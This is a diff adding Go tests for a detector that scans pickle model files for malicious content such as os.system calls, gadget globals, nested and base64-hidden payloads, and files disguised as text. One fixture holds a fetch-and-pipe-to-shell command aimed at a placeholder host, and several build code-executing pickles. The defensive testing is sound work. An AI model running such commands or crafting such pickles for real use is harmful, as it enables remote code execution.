@@ -1,0 +1,94 @@
+package pickle
+
+import (
+	"bytes"
+	"context"
+	"encoding/base64"
+	"testing"
+
+	"github.com/aisecops/aisec/internal/detect"
+	"github.com/aisecops/aisec/internal/finding"
+	pkl "github.com/aisecops/aisec/internal/format/pickle"
+	"github.com/aisecops/aisec/internal/format/pickle/pickletest"
+)
+
+func parse(t *testing.T, b []byte) *pkl.File {
+	t.Helper()
+	f, err := pkl.Parse(context.Background(), bytes.NewReader(b), pkl.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return f
+}
+
+func rulesOf(fs []finding.Finding) map[string]finding.Severity {
+	m := map[string]finding.Severity{}
+	for _, f := range fs {
+		m[f.Rule] = max(m[f.Rule], f.Severity)
+	}
+	return m
+}
+
+func TestDetector(t *testing.T) {
+	evil := pickletest.Payload("os", "system", "echo aisec-test")
+	plain := pickletest.New().Proto(2).EmptyDict().Unicode("k").Unicode("v").SetItem().Stop().Bytes()
+	tests := []struct {
+		name   string
+		file   string
+		data   []byte
+		want   map[string]finding.Severity
+		absent []string
+	}{
+		{"plain data", "a.pkl", plain, map[string]finding.Severity{}, nil},
+		{"os.system", "a.pkl", evil, map[string]finding.Severity{"AISEC-PKL-001": finding.Critical}, nil},
+		{"unknown global", "a.pkl", pickletest.Payload("__main__", "Net"), map[string]finding.Severity{"AISEC-PKL-004": finding.Medium}, nil},
+		{"gadget", "a.pkl", pickletest.Payload("functools", "partial"), map[string]finding.Severity{"AISEC-PKL-002": finding.High}, nil},
+		{"truncated after payload", "a.pkl", evil[:len(evil)-3],
+			map[string]finding.Severity{"AISEC-PKL-001": finding.Critical, "AISEC-PKL-005": finding.High}, nil},
+		{"truncated plain data", "a.pkl", plain[:len(plain)-2], map[string]finding.Severity{"AISEC-PKL-005": finding.Low}, nil},
+		{"disguised as text", "notes.txt", evil, map[string]finding.Severity{"AISEC-PKL-013": finding.High}, nil},
+		{"inert base64 payload", "a.pkl",
+			pickletest.New().Proto(2).EmptyDict().Unicode("blob").Unicode(base64.StdEncoding.EncodeToString(evil)).SetItem().Stop().Bytes(),
+			map[string]finding.Severity{"AISEC-PKL-011": finding.High}, []string{"AISEC-PKL-001"}},
+		{"inert plain nested pickle", "a.pkl",
+			pickletest.New().Proto(2).EmptyDict().Unicode("blob").BinBytes(plain).SetItem().Stop().Bytes(),
+			map[string]finding.Severity{}, nil},
+		{"loaded nested payload", "a.pkl",
+			pickletest.New().Proto(2).Global("pickle", "loads").BinBytes(evil).Tuple1().Reduce().Stop().Bytes(),
+			map[string]finding.Severity{"AISEC-PKL-001": finding.Critical}, []string{"AISEC-PKL-011"}},
+		{"embedded shell command", "a.pkl",
+			pickletest.New().Proto(2).EmptyDict().Unicode("cmd").Unicode("curl -s http://x.example/a | /bin/sh").SetItem().Stop().Bytes(),
+			map[string]finding.Severity{"AISEC-PKL-012": finding.High}, nil},
+	}
+	d := New(nil)
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := rulesOf(d.Detect(context.Background(), detect.Target{Path: tt.file, Format: "pickle", Model: parse(t, tt.data)}))
+			for rule, sev := range tt.want {
+				if got[rule] != sev {
+					t.Errorf("%s: got severity %v (all: %v), want %v", rule, got[rule], got, sev)
+				}
+			}
+			if len(tt.want) == 0 && len(got) != 0 {
+				t.Errorf("want no findings, got %v", got)
+			}
+			for _, rule := range tt.absent {
+				if _, ok := got[rule]; ok {
+					t.Errorf("%s reported: %v", rule, got)
+				}
+			}
+		})
+	}
+}
+
+// A global imported many times is reported once, with the count in the evidence.
+func TestDetectorDeduplicates(t *testing.T) {
+	p := pickletest.New().Proto(2).Mark()
+	for range 50 {
+		p.Global("__main__", "Layer").EmptyTuple().Reduce()
+	}
+	fs := New(nil).Detect(context.Background(), detect.Target{Path: "a.pkl", Model: parse(t, p.Op('l').Stop().Bytes())})
+	if len(fs) != 1 || !bytes.Contains([]byte(fs[0].Evidence), []byte("imported 50 times")) {
+		t.Fatalf("want one deduplicated finding, got %+v", fs)
+	}
+}
